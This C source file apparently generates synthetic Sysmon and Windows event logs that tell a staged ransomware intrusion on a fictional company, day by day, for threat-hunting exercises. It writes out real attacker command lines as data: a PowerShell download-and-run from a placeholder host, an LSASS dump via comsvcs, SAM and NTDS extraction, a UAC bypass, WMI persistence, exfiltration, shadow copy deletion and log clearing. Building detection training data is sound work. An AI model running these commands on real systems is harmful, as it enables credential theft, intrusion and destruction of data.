/* gen_story.c - the attack on Harborlight, 10 to 14 June 2024, act by act.
 *
 * Monday    a document on HL-WS01 starts PowerShell, which fetches a loader
 * Tuesday   credentials: LSASS and SAM on HL-WS01, password spray, tickets
 * Wednesday lateral movement: a service on HL-FILE01, WMI on HL-WS02, RDP to HL-DC01
 * Thursday  persistence that stays, collection, exfiltration
 * Friday    backups destroyed, files locked, logs cleared
 *
 * docs/hunts.md asks about what is told here. */
#include "bench/gen/gen_world.h"

#define PS "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define SYSTEM32(file) "C:\\Windows\\System32\\" file
#define LOADER "C:\\Users\\ines.duarte\\AppData\\Roaming\\OneSync\\onesync.exe"
#define SYSMON "Microsoft-Windows-Sysmon"
#define TECHNIQUE(id, name, phase) "technique_id=" id ",technique_name=" name ",phase_name=" phase
#define END ((char *)NULL)

static gen_process *run(gen_world *w, gen_process *parent, gen_person user, const char *image,
                        const char *command_line, const char *rule) {
    gen_process *process = gen_spawn(w, parent, user, image, command_line, rule);
    gen_wait(w, 600);
    gen_exit(w, process);
    gen_wait(w, 4000 + gen_below(&w->random, 20000));
    return process;
}

/* -- Monday --------------------------------------------------------------------------------------------- */

static gen_process *open_document(gen_world *w) {
    gen_process *explorer = gen_running(w, GEN_WS01, GEN_INES, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    gen_at(w, 10, 8, 41, 7);
    gen_process *outlook = gen_spawn(w, explorer, GEN_INES, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", NULL);
    gen_wait(w, 740000);
    const char *document = "C:\\Users\\ines.duarte\\Downloads\\Invoice_4471.docm";
    gen_file(w, outlook, document, NULL);
    gen_sysmon(w, outlook, 15, "TargetFilename", gen_print(w, "%s:Zone.Identifier", document), "CreationUtcTime",
               "2024-06-10 08:53:29.101", "Hash", gen_hashes(w, document), "Contents",
               "[ZoneTransfer]  ZoneId=3  HostUrl=https://mail.harborlight.example/", END);
    gen_wait(w, 9000);
    gen_process *word = gen_spawn(w, outlook, GEN_INES, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", gen_print(w, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"%s\"", document), NULL);
    gen_load(w, word, SYSTEM32("VBE7.DLL"), "Microsoft Corporation", true);
    gen_wait(w, 12000);
    gen_process *powershell = gen_spawn(w, word, GEN_INES, PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", TECHNIQUE("T1059.001", "PowerShell", "Execution"));
    gen_script(w, powershell, "IEX (New-Object Net.WebClient).DownloadString('https://cdn-invoices.example/a.ps1')");
    gen_load(w, powershell, SYSTEM32("amsi.dll"), "Microsoft Corporation", true);
    gen_resolve(w, powershell, "cdn-invoices.example", "::ffff:198.51.100.23;");
    gen_connect(w, powershell, "198.51.100.23", "cdn-invoices.example", 443);
    gen_script(w, powershell, "$p = \"$env:APPDATA\\OneSync\"; New-Item -ItemType Directory $p -Force | Out-Null\r\n(New-Object Net.WebClient).DownloadFile('https://cdn-invoices.example/o.bin', \"$p\\onesync.exe\")\r\nStart-Process \"$p\\onesync.exe\"");
    gen_sysmon(w, powershell, 27, "RuleName", "downloads", "TargetFilename", "C:\\Users\\ines.duarte\\Downloads\\onesync.exe", "Hashes", gen_hashes(w, LOADER), END);
    gen_file(w, powershell, LOADER, "EXE");
    gen_sysmon(w, powershell, 29, "TargetFilename", LOADER, "Hashes", gen_hashes(w, LOADER), END);
    gen_process *loader = gen_spawn(w, powershell, GEN_INES, LOADER, "\"" LOADER "\"", NULL);
    gen_exit(w, powershell);
    return loader;
}

static void settle(gen_world *w, gen_process *loader) {
    gen_process *explorer = gen_running(w, GEN_WS01, GEN_INES, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    gen_at(w, 10, 8, 56, 2);
    gen_sysmon(w, loader, 25, "Type", "Image is replaced", END);
    gen_add(w, loader->host, SYSMON, 8, "RuleName", TECHNIQUE("T1055", "Process Injection", "Defense Evasion"), "SourceProcessGuid", loader->guid, "SourceProcessId", loader->pid, "SourceImage", loader->image, "TargetProcessGuid", explorer->guid, "TargetProcessId", explorer->pid, "TargetImage", explorer->image, "NewThreadId", "7316", "StartAddress", "0x000001E4C1AF0000", "SourceUser", loader->user->account, "TargetUser", explorer->user->account, END);
    gen_sysmon(w, loader, 12, "EventType", "CreateKey", "TargetObject", "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\OneSync", END);
    gen_sysmon(w, loader, 14, "EventType", "RenameValue", "TargetObject", "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\OneSync\\tmp", "NewName", "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\OneSync\\id", END);
    gen_set_value(w, loader, "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneSync", "\"" LOADER "\" /background", TECHNIQUE("T1547.001", "Registry Run Keys / Start Folder", "Persistence"));
    for (uint32_t i = 0; i < 8; i++) { /* a beacon, every five minutes */
        gen_resolve(w, loader, "sync.onesync-cdn.example", "::ffff:198.51.100.77;");
        gen_connect(w, loader, "198.51.100.77", "sync.onesync-cdn.example", 443);
        gen_wait(w, 300000 + gen_below(&w->random, 5000));
    }
    gen_process *shell = gen_spawn(w, loader, GEN_INES, CMD, "cmd.exe", NULL);
    run(w, shell, GEN_INES, SYSTEM32("whoami.exe"), "whoami /all", TECHNIQUE("T1033", "System Owner/User Discovery", "Discovery"));
    run(w, shell, GEN_INES, SYSTEM32("systeminfo.exe"), "systeminfo", TECHNIQUE("T1082", "System Information Discovery", "Discovery"));
    run(w, shell, GEN_INES, SYSTEM32("ipconfig.exe"), "ipconfig /all", NULL);
    run(w, shell, GEN_INES, SYSTEM32("net.exe"), "net group \"Domain Admins\" /domain", TECHNIQUE("T1069.002", "Domain Groups", "Discovery"));
    run(w, shell, GEN_INES, SYSTEM32("nltest.exe"), "nltest /dclist:harborlight.example", TECHNIQUE("T1018", "Remote System Discovery", "Discovery"));
    run(w, shell, GEN_INES, SYSTEM32("tasklist.exe"), "tasklist /svc", NULL);
    gen_sysmon(w, loader, 24, "Session", "1", "ClientInfo", "user: HARBOR\\ines.duarte", "Hashes", gen_hashes(w, "clip"), "Archived", "true", END);
    gen_exit(w, shell);
}

/* -- Tuesday -------------------------------------------------------------------------------------------- */

static void steal_credentials(gen_world *w, gen_process *loader) {
    gen_process *lsass = gen_running(w, GEN_WS01, GEN_SYSTEM, SYSTEM32("lsass.exe"), SYSTEM32("lsass.exe"));
    gen_process *services = gen_running(w, GEN_WS01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
    gen_at(w, 11, 10, 14, 31);
    gen_set_value(w, loader, "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107_Classes\\ms-settings\\shell\\open\\command\\(Default)", LOADER " /e", TECHNIQUE("T1548.002", "Bypass User Access Control", "Privilege Escalation"));
    gen_process *fodhelper = gen_spawn(w, loader, GEN_INES, SYSTEM32("fodhelper.exe"), "fodhelper.exe", NULL);
    gen_process *elevated = gen_spawn(w, fodhelper, GEN_SYSTEM, LOADER, "\"" LOADER "\" /e", NULL);
    gen_process *dumper = gen_spawn(w, elevated, GEN_SYSTEM, SYSTEM32("rundll32.exe"), "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 744 C:\\Windows\\Temp\\wct3A1.tmp full", TECHNIQUE("T1218.011", "Rundll32", "Defense Evasion"));
    gen_access(w, dumper, lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+32d8e|C:\\Windows\\System32\\comsvcs.dll+2e6a0|C:\\Windows\\System32\\rundll32.exe+3b7c", TECHNIQUE("T1003.001", "LSASS Memory", "Credential Access"));
    gen_file(w, dumper, "C:\\Windows\\Temp\\wct3A1.tmp", NULL);
    gen_exit(w, dumper);
    gen_access(w, elevated, lsass, "0x1010", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+32d8e|UNKNOWN(000001E4C1B2340)", TECHNIQUE("T1003.001", "LSASS Memory", "Credential Access"));
    gen_wait(w, 60000);
    run(w, elevated, GEN_SYSTEM, SYSTEM32("reg.exe"), "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv", TECHNIQUE("T1003.002", "Security Account Manager", "Credential Access"));
    run(w, elevated, GEN_SYSTEM, SYSTEM32("reg.exe"), "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\y.hiv", TECHNIQUE("T1003.002", "Security Account Manager", "Credential Access"));
    gen_sysmon(w, elevated, 9, "Device", "\\Device\\HarddiskVolume3", END);
    gen_wait(w, 30000);
    run(w, elevated, GEN_SYSTEM, SYSTEM32("schtasks.exe"), "schtasks /create /tn \"OneSync Updater\" /tr \"" LOADER "\" /sc onlogon /ru SYSTEM /f", TECHNIQUE("T1053.005", "Scheduled Task", "Persistence"));
    const gen_user *user = &w->users[GEN_SYSTEM];
    gen_add(w, loader->host, "Security", 4698, "SubjectUserSid", user->sid, "SubjectUserName", "HL-WS01$", "SubjectDomainName", "HARBOR", "SubjectLogonId", "0x3e7", "TaskName", "\\OneSync Updater", "TaskContent",
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\">\r\n  <Triggers><LogonTrigger/></Triggers>\r\n  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n  <Actions Context=\"Author\"><Exec><Command>" LOADER "</Command></Exec></Actions>\r\n</Task>", END);
    gen_exit(w, elevated);
    (void)services;
}

static void spray_and_roast(gen_world *w) {
    static const char *const names[] = {"administrator", "a.kowalski", "b.moreau", "c.ferrari", "d.novak", "e.santos", "f.keller", "guest", "helpdesk", "mara.lindqvist", "print", "scanner", "svc-backup", "svc-sql", "tomas.reyes", "test"};
    gen_at(w, 11, 13, 2, 11);
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        gen_failed_logon(w, GEN_DC01, names[i], "192.0.2.21", "HL-WS01", i % 3 != 0);
        gen_wait(w, 900 + gen_below(&w->random, 400));
    }
    gen_wait(w, 400000);
    gen_failed_logon(w, GEN_DC01, "svc-backup", "192.0.2.21", "HL-WS01", false);
    gen_wait(w, 2000);
    gen_logon(w, GEN_DC01, GEN_BACKUP, 3, "192.0.2.21", "HL-WS01");
    gen_wait(w, 500000);
    static const char *const services[] = {"svc-backup", "svc-sql", "svc-web", "svc-print", "svc-scan"};
    for (size_t i = 0; i < sizeof services / sizeof services[0]; i++) {
        gen_ticket(w, GEN_INES, services[i], "0x17", "192.0.2.21");
        gen_wait(w, 150);
    }
}

/* -- Wednesday ------------------------------------------------------------------------------------------ */

static gen_process *move_by_service(gen_world *w, gen_process *loader) {
    gen_process *services = gen_running(w, GEN_FILE01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
    gen_process *system = gen_running(w, GEN_FILE01, GEN_SYSTEM, "System", "");
    gen_at(w, 12, 9, 22, 40);
    gen_process *psexec = gen_spawn(w, loader, GEN_INES, "C:\\Users\\Public\\psexec.exe", "psexec.exe \\\\HL-FILE01 -accepteula -u HARBOR\\svc-backup -s cmd.exe", TECHNIQUE("T1569.002", "Service Execution", "Execution"));
    gen_connect(w, psexec, "192.0.2.10", "HL-FILE01.harborlight.example", 445);
    gen_logon(w, GEN_FILE01, GEN_BACKUP, 3, "192.0.2.21", "HL-WS01");
    gen_share(w, GEN_FILE01, GEN_BACKUP, "ADMIN$", "PSEXESVC.exe", "192.0.2.21");
    gen_file(w, system, "C:\\Windows\\PSEXESVC.exe", "EXE");
    gen_sysmon(w, system, 29, "TargetFilename", "C:\\Windows\\PSEXESVC.exe", "Hashes", gen_hashes(w, "C:\\Windows\\PSEXESVC.exe"), END);
    gen_share(w, GEN_FILE01, GEN_BACKUP, "IPC$", "svcctl", "192.0.2.21");
    gen_service(w, GEN_FILE01, GEN_BACKUP, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    gen_process *service = gen_spawn(w, services, GEN_SYSTEM, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", TECHNIQUE("T1569.002", "Service Execution", "Execution"));
    gen_sysmon(w, service, 17, "EventType", "CreatePipe", "PipeName", "\\PSEXESVC", END);
    gen_sysmon(w, service, 17, "EventType", "CreatePipe", "PipeName", "\\PSEXESVC-HL-WS01-4412-stdin", END);
    gen_sysmon(w, system, 18, "EventType", "ConnectPipe", "PipeName", "\\PSEXESVC-HL-WS01-4412-stdin", END);
    gen_process *shell = gen_spawn(w, service, GEN_SYSTEM, CMD, "\"cmd.exe\"", NULL);
    run(w, shell, GEN_SYSTEM, SYSTEM32("whoami.exe"), "whoami", TECHNIQUE("T1033", "System Owner/User Discovery", "Discovery"));
    gen_file(w, shell, "C:\\Windows\\Temp\\gdrv9.sys", NULL);
    gen_add(w, shell->host, SYSMON, 6, "RuleName", "-", "ImageLoaded", "C:\\Windows\\Temp\\gdrv9.sys", "Hashes", gen_hashes(w, "C:\\Windows\\Temp\\gdrv9.sys"), "Signed", "true", "Signature", "Motherboard Tools Ltd", "SignatureStatus", "Expired", END);
    gen_file(w, shell, "C:\\Windows\\System32\\winhlp64.dll", NULL);
    gen_sysmon(w, shell, 2, "RuleName", TECHNIQUE("T1070.006", "Timestomp", "Defense Evasion"), "TargetFilename", "C:\\Windows\\System32\\winhlp64.dll", "CreationUtcTime", "2021-04-09 03:12:44.000", "PreviousCreationUtcTime", "2024-06-12 09:24:10.311", END);
    return shell;
}

static void move_by_wmi_and_rdp(gen_world *w, gen_process *loader) {
    gen_process *host = gen_running(w, GEN_WS02, GEN_NETWORK_SERVICE, SYSTEM32("wbem\\WmiPrvSE.exe"), "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
    gen_process *explorer = gen_running(w, GEN_DC01, GEN_HELPDESK, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    gen_at(w, 12, 11, 5, 9);
    gen_process *wmic = gen_spawn(w, loader, GEN_INES, SYSTEM32("wbem\\WMIC.exe"), "wmic /node:HL-WS02 /user:HARBOR\\svc-backup process call create \"powershell -nop -w hidden -c Get-Process\"", TECHNIQUE("T1047", "Windows Management Instrumentation", "Execution"));
    gen_connect(w, wmic, "192.0.2.22", "HL-WS02.harborlight.example", 135);
    gen_exit(w, wmic);
    gen_logon(w, GEN_WS02, GEN_BACKUP, 3, "192.0.2.21", "HL-WS01");
    gen_process *remote = gen_spawn(w, host, GEN_BACKUP, PS, "powershell -nop -w hidden -c Get-Process", TECHNIQUE("T1047", "Windows Management Instrumentation", "Execution"));
    gen_script(w, remote, "Get-Process | Where-Object { $_.Name -match 'veeam|sql|backup' } | Stop-Process -Force");
    gen_exit(w, remote);
    gen_at(w, 12, 15, 40, 18);
    gen_process *mstsc = gen_spawn(w, loader, GEN_INES, SYSTEM32("mstsc.exe"), "mstsc /v:HL-DC01", NULL);
    gen_connect(w, mstsc, "192.0.2.5", "HL-DC01.harborlight.example", 3389);
    gen_logon(w, GEN_DC01, GEN_BACKUP, 10, "192.0.2.21", "HL-DC01");
    gen_process *shell = gen_spawn(w, explorer, GEN_BACKUP, CMD, "\"C:\\Windows\\system32\\cmd.exe\"", NULL);
    run(w, shell, GEN_BACKUP, SYSTEM32("net.exe"), "net user helpdesk2 Harbor!2024 /add /domain", TECHNIQUE("T1136.002", "Domain Account", "Persistence"));
    const gen_user *by = &w->users[GEN_BACKUP], *made = &w->users[GEN_HELPDESK];
    gen_add(w, shell->host, "Security", 4720, "TargetUserName", "helpdesk2", "TargetDomainName", "HARBOR", "TargetSid", made->sid, "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", "HARBOR", "SubjectLogonId", by->logon_id, "SamAccountName", "helpdesk2", "PasswordLastSet", "%%1794", "AccountExpires", "%%1794", "PrimaryGroupId", "513", "OldUacValue", "0x0", "NewUacValue", "0x15", "UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "LogonHours", "%%1793", END);
    run(w, shell, GEN_BACKUP, SYSTEM32("net.exe"), "net localgroup Administrators helpdesk2 /add", TECHNIQUE("T1098", "Account Manipulation", "Persistence"));
    gen_add(w, shell->host, "Security", 4732, "MemberName", "CN=helpdesk2,CN=Users,DC=harborlight,DC=example", "MemberSid", made->sid, "TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544", "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", "HARBOR", "SubjectLogonId", by->logon_id, END);
    run(w, shell, GEN_BACKUP, SYSTEM32("ntdsutil.exe"), "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\n\" q q", TECHNIQUE("T1003.003", "NTDS", "Credential Access"));
    gen_exit(w, shell);
}

/* -- Thursday ------------------------------------------------------------------------------------------- */

static void stay_and_collect(gen_world *w, gen_process *shell) {
    gen_at(w, 13, 9, 48, 51);
    gen_process *powershell = gen_spawn(w, shell, GEN_SYSTEM, PS, "powershell.exe -ep bypass -f C:\\Windows\\Temp\\k.ps1", TECHNIQUE("T1059.001", "PowerShell", "Execution"));
    gen_script(w, powershell, "$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='HLFilter'; EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime'\"}");
    gen_sysmon(w, powershell, 19, "RuleName", TECHNIQUE("T1546.003", "Windows Management Instrumentation Event Subscription", "Persistence"), "EventType", "WmiFilterEvent", "Operation", "Created", "EventNamespace", " \"root\\\\cimv2\"", "Name", " \"HLFilter\"", "Query", " \"SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime'\"", END);
    gen_sysmon(w, powershell, 20, "EventType", "WmiConsumerEvent", "Operation", "Created", "Name", " \"HLConsumer\"", "Type", "Command Line", "Destination", " \"powershell.exe -w hidden -f C:\\\\Windows\\\\Temp\\\\k.ps1\"", END);
    gen_sysmon(w, powershell, 21, "EventType", "WmiBindingEvent", "Operation", "Created", "Consumer", " \"CommandLineEventConsumer.Name=\\\"HLConsumer\\\"\"", "Filter", " \"__EventFilter.Name=\\\"HLFilter\\\"\"", END);
    gen_exit(w, powershell);
    gen_service(w, GEN_FILE01, GEN_BACKUP, "OneSync Helper", "C:\\ProgramData\\OneSync\\helper.exe -svc");
    gen_set_value(w, shell, "HKLM\\System\\CurrentControlSet\\Services\\OneSync Helper\\ImagePath", "C:\\ProgramData\\OneSync\\helper.exe -svc", TECHNIQUE("T1543.003", "Windows Service", "Persistence"));
    gen_wait(w, 900000);
    gen_process *zip = gen_spawn(w, shell, GEN_SYSTEM, "C:\\ProgramData\\OneSync\\7za.exe", "7za.exe a -pHl!2024 -mhe C:\\ProgramData\\OneSync\\f.7z D:\\Shares\\Finance", TECHNIQUE("T1560.001", "Archive via Utility", "Collection"));
    gen_file(w, zip, "C:\\ProgramData\\OneSync\\f.7z", NULL);
    gen_exit(w, zip);
    gen_process *rclone = gen_spawn(w, shell, GEN_SYSTEM, "C:\\ProgramData\\OneSync\\svchost.exe", "svchost.exe copy C:\\ProgramData\\OneSync\\f.7z box:hl --no-check-certificate", NULL);
    for (uint32_t i = 0; i < 6; i++) {
        gen_connect(w, rclone, "198.51.100.140", "-", 443);
        gen_wait(w, 45000);
    }
    gen_exit(w, rclone);
    gen_sysmon(w, shell, 28, "TargetFilename", "C:\\ProgramData\\OneSync\\f.7z", "Hashes", gen_hashes(w, "f.7z"), "IsExecutable", "false", END);
}

/* -- Friday --------------------------------------------------------------------------------------------- */

static void destroy_backups(gen_world *w, gen_process *shell, gen_person user, const char *const *commands) {
    static const char *const images[] = {SYSTEM32("vssadmin.exe"), SYSTEM32("wbem\\WMIC.exe"), SYSTEM32("wbadmin.exe"), SYSTEM32("bcdedit.exe"), SYSTEM32("bcdedit.exe")};
    for (size_t i = 0; i < 5; i++) {
        run(w, shell, user, images[i], commands[i], TECHNIQUE("T1490", "Inhibit System Recovery", "Impact"));
    }
}

static void lock_files(gen_world *w, gen_process *shell, gen_person user, const char *folder) {
    static const char *const names[] = {"Budget 2024.xlsx", "Contracts.docx", "Payroll May.xlsx", "Fleet.accdb", "Übersicht Häfen.xlsx", "Photos.zip", "Tariffs.pdf", "Minutes.docx", "Crew list.csv", "Insurance.pdf"};
    gen_process *locker = gen_spawn(w, shell, user, "C:\\ProgramData\\OneSync\\helper.exe", gen_print(w, "helper.exe --all \"%s\"", folder), TECHNIQUE("T1486", "Data Encrypted for Impact", "Impact"));
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        const char *old = gen_print(w, "%s\\%s", folder, names[i]);
        gen_file(w, locker, gen_print(w, "%s.harbored", old), NULL);
        gen_sysmon(w, locker, i < 2 ? 23 : 26, "TargetFilename", old, "Hashes", gen_hashes(w, old), "IsExecutable", "false", i < 2 ? "Archived" : "RuleName", i < 2 ? "true" : "-", END);
        gen_wait(w, 120);
    }
    gen_file(w, locker, gen_print(w, "%s\\README_RESTORE.txt", folder), NULL);
    gen_exit(w, locker);
}

static void clear_logs(gen_world *w, gen_machine at, gen_process *shell, gen_person user) {
    const gen_user *by = &w->users[user];
    run(w, shell, user, SYSTEM32("wevtutil.exe"), "wevtutil cl Security", TECHNIQUE("T1070.001", "Clear Windows Event Logs", "Defense Evasion"));
    gen_add(w, &w->hosts[at], "Security", 1102, "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", by->domain, "SubjectLogonId", by->logon_id, END)->pid = 1120;
    run(w, shell, user, SYSTEM32("wevtutil.exe"), "wevtutil cl System", TECHNIQUE("T1070.001", "Clear Windows Event Logs", "Defense Evasion"));
    gen_event *cleared = gen_add(w, &w->hosts[at], "System", 104, "SubjectUserName", by->name, "SubjectDomainName", by->domain, "Channel", "System", "BackupPath", "", END);
    cleared->pid = 1120;
    cleared->sid = spoor_str_from(by->sid);
}

static void impact(gen_world *w, gen_process *loader, gen_process *shell) {
    static const char *const server[] = {"vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "wbadmin delete catalog -q", "bcdedit /set {default} bootstatuspolicy ignoreallfailures", "bcdedit /set {default} recoveryenabled no"};
    static const char *const desk[] = {"vssadmin.exe Delete Shadows /All /Quiet", "wmic.exe shadowcopy delete", "wbadmin.exe delete catalog -quiet", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", "bcdedit.exe /set {default} recoveryenabled No"};
    gen_at(w, 14, 3, 1, 12);
    destroy_backups(w, shell, GEN_SYSTEM, server);
    lock_files(w, shell, GEN_SYSTEM, "D:\\Shares\\Finance");
    gen_at(w, 14, 3, 9, 30);
    gen_process *local = gen_spawn(w, loader, GEN_SYSTEM, CMD, "cmd.exe /c C:\\ProgramData\\OneSync\\go.bat", NULL);
    destroy_backups(w, local, GEN_SYSTEM, desk);
    lock_files(w, local, GEN_SYSTEM, "C:\\Users\\ines.duarte\\Documents");
    gen_process *cleaner = gen_spawn(w, local, GEN_SYSTEM, PS, "powershell.exe -c \"Remove-Item -Recurse -Force C:\\Users\\Public\\*.exe\"", TECHNIQUE("T1070.004", "File Deletion", "Defense Evasion"));
    gen_script(w, cleaner, "Remove-Item -Recurse -Force C:\\Users\\Public\\*.exe");
    gen_sysmon(w, cleaner, 26, "TargetFilename", "C:\\Users\\Public\\psexec.exe", "Hashes", gen_hashes(w, "C:\\Users\\Public\\psexec.exe"), "IsExecutable", "true", END);
    gen_exit(w, cleaner);
    clear_logs(w, GEN_WS01, local, GEN_SYSTEM);
    gen_at(w, 14, 3, 22, 5);
    clear_logs(w, GEN_FILE01, shell, GEN_BACKUP);
    gen_add(w, shell->host, SYSMON, 16, "Configuration", "C:\\Windows\\Temp\\empty.xml", "ConfigurationFileHash", "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", END);
    gen_add(w, shell->host, SYSMON, 255, "ID", "DriverCommunication", "Description", "Failed to retrieve events - Last error: The I/O operation has been aborted because of either a thread exit or an application request.", END);
    run(w, shell, GEN_SYSTEM, SYSTEM32("net.exe"), "net stop Sysmon64", TECHNIQUE("T1562.001", "Disable or Modify Tools", "Defense Evasion"));
    gen_add(w, shell->host, SYSMON, 4, "State", "Stopped", "Version", "15.14", "SchemaVersion", "4.90", END);
    gen_add(w, shell->host, "System", 7036, "param1", "Sysmon64", "param2", "stopped", END);
}

void gen_story(gen_world *world) {
    gen_process *loader = open_document(world);
    settle(world, loader);
    steal_credentials(world, loader);
    spray_and_roast(world);
    gen_process *shell = move_by_service(world, loader);
    move_by_wmi_and_rdp(world, loader);
    stay_and_collect(world, shell);
    impact(world, loader, shell);
}
